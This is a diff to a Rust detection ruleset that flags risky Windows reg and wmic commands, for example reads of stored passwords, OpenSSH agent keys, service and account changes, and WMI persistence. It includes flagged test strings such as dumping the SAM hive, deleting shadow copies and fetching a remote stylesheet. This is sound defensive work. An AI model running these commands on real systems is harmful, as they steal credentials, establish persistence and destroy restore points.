@@ -339,14 +339,28 @@ pub const WINDOWS: &[Program] = &[
             },
             Sub { words: &["add|delete|import|load|restore|copy"], harm: SelfEscalation, level: Medium, reason: "changes the Windows registry (settings, services, programs run at start-up)" },
             // Keys that hold passwords in clear or reversible form:
-            // Winlogon's autologon DefaultPassword, PuTTY's saved sessions
-            // (proxy passwords), VNC servers' passwords, SNMP communities;
-            // and a search of the registry for passwords (ATT&CK T1552.002).
-            Sub { words: &["query", "*winlogon*|*putty*|*winvnc*|*realvnc*|*tightvnc*|*snmp*"], harm: Credential, level: Medium, reason: "reads a registry key that holds stored passwords" },
+            // Winlogon's autologon DefaultPassword (all of the key, or a
+            // password value of it: `/v DefaultUserName` is no secret),
+            // PuTTY's saved sessions (proxy passwords; its SshHostKeys are
+            // public keys), VNC servers' passwords, SNMP communities; and a
+            // search of the registry for passwords (ATT&CK T1552.002).
+            Sub { words: &["query", "*winlogon*", "!-v|-ve"], harm: Credential, level: Medium, reason: "reads a registry key that holds stored passwords" },
+            Sub { words: &["query", "*winlogon*", "-v *password*|*pwd*"], harm: Credential, level: Medium, reason: "reads a registry key that holds stored passwords" },
+            Sub { words: &["query", "*putty*", "!*sshhostkeys*"], harm: Credential, level: Medium, reason: "reads a registry key that holds stored passwords" },
+            Sub { words: &["query", "*winvnc*|*realvnc*|*tightvnc*|*snmp*"], harm: Credential, level: Medium, reason: "reads a registry key that holds stored passwords" },
+            // Win32-OpenSSH's ssh-agent keeps the private keys added to it
+            // under HKCU\Software\OpenSSH\Agent\Keys (DPAPI-protected for
+            // this user, so readable by any of the user's processes).
+            Sub { words: &["query|export|save", "*openssh\\agent*|*opensshagent*"], harm: Credential, level: High, reason: "reads the private keys the OpenSSH agent keeps in the registry" },
             Sub { words: &["query", "-f password"], harm: Credential, level: Medium, reason: "searches the registry for stored passwords" },
         ],
-        flagged: &["reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"", "reg query HKLM /f password /t REG_SZ /s", "reg save HKLM\\SAM 'C:\\Windows\\Temp\\sam.save'", "reg save 'HKLM\\SYSTEM' system.save", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\Temp\\a.exe"],
-        clean: &["reg query HKCU\\Software\\Example"],
+        flagged: &["reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v AltDefaultPassword", "reg query 'HKEY_CURRENT_USER\\Software\\OpenSSH\\Agent\\Keys'", "reg query \"HKCU\\Software\\SimonTatham\\PuTTY\\Sessions\" /s", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"", "reg query HKLM /f password /t REG_SZ /s", "reg save HKLM\\SAM 'C:\\Windows\\Temp\\sam.save'", "reg save 'HKLM\\SYSTEM' system.save", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\Temp\\a.exe"],
+        clean: &[
+            "reg query HKCU\\Software\\Example",
+            "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v DefaultUserName",
+            "reg query \"HKEY_LOCAL_MACHINE\\SOFTWARE\\MICROSOFT\\WINDOWS NT\\CURRENTVERSION\\WINLOGON\" /v CACHEDLOGONSCOUNT",
+            "reg query HKCU\\Software\\SimonTatham\\PuTTY\\SshHostKeys",
+        ],
         ..W
     },
     Program {
@@ -514,12 +528,15 @@ pub const WINDOWS: &[Program] = &[
         subs: &[
             Sub { words: &["process", "call", "create"], harm: Evasion, level: Medium, reason: "starts a process through WMI" },
             Sub { words: &["shadowcopy", "delete"], harm: Destructive, level: High, reason: "deletes the volume shadow copies (the machine's restore points)" },
+            Sub { words: &["service", "call"], harm: SelfEscalation, level: Medium, reason: "starts, stops or changes a Windows service through WMI" },
+            Sub { words: &["path", "win32_service|*win32_service", "call"], harm: SelfEscalation, level: Medium, reason: "starts, stops or changes a Windows service through WMI" },
+            Sub { words: &["useraccount|group|path", "call|set"], harm: SelfEscalation, level: Medium, reason: "changes a Windows account or group through WMI" },
             Sub { words: &["path", "*eventfilter*|*eventconsumer*|*consumerbinding*", "create"], harm: SelfEscalation, level: High, reason: "creates a WMI event subscription (runs a command whenever an event fires: persistence)" },
             Sub { words: &["-format=http*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from the network" },
             Sub { words: &["-format=\\\\*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from a network share" },
         ],
-        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
-        clean: &["wmic os get caption", "wmic process list brief"],
+        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic service NAMEOFSERVICE call startservice", "wmic path win32_service where name='spooler' call stopservice", "wmic useraccount where name='guest' set disabled=false", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
+        clean: &["wmic os get caption", "wmic process list brief", "wmic service list brief", "wmic useraccount get name,sid", "wmic path win32_service get name,startmode"],
         ..W
     },
     Program {
